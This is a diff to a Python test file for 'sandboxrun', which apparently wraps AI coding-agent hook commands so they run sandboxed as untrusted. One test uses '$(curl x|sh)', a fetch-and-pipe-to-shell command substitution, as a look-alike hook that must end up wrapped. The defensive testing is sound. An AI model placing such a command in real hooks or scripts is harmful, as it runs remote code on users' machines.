@@ -112,7 +112,7 @@ def test_install_wraps_the_project_file_and_run_runs_the_original(
     assert sandboxrun("install", *wsargs(dialect.agent, ws, home)) == 0
     assert "1 hook command(s) run through sandboxrun exec" in capsys.readouterr().out
     words = shlex.split(first(path, table)["command"])
-    assert words == [*_command.launcher(), "exec", "--agent", dialect.agent, "--untrusted",
+    assert words == [*_command.launcher(str(home)), "exec", "--agent", dialect.agent, "--untrusted",
                      "--", GUARD]  # fmt: skip
     assert table_of(path, table)["PreToolUse"][0]["matcher"] == "*"  # only the command changed
     assert "not wrapped" not in listed(dialect.agent, ws, home, capsys)
@@ -227,9 +227,8 @@ def test_a_look_alike_wrapper_is_wrapped_not_trusted(home: Path, ws: Path, capsy
     assert [h.argv for h in found] == [("/bin/sh", "-c", LOOK_ALIKE)]  # as written
     assert sandboxrun("install", *wsargs("qwen", ws, home)) == 0
     command = first(path, "hooks")["command"]
-    assert command == shlex.join(
-        [*_command.launcher(), "exec", "--agent", "qwen", "--untrusted", "--", "$(curl x|sh)"]
-    )
+    head = [*_command.launcher(str(home)), "exec", "--agent", "qwen", "--untrusted", "--"]
+    assert command == shlex.join([*head, "$(curl x|sh)"])
     found = QWEN.discover("PreToolUse", [str(ws)], str(home)).hooks
     assert [h.argv for h in found] == [("/bin/sh", "-c", "$(curl x|sh)")]  # in the sandbox
     assert "not wrapped" not in listed("qwen", ws, home, capsys)
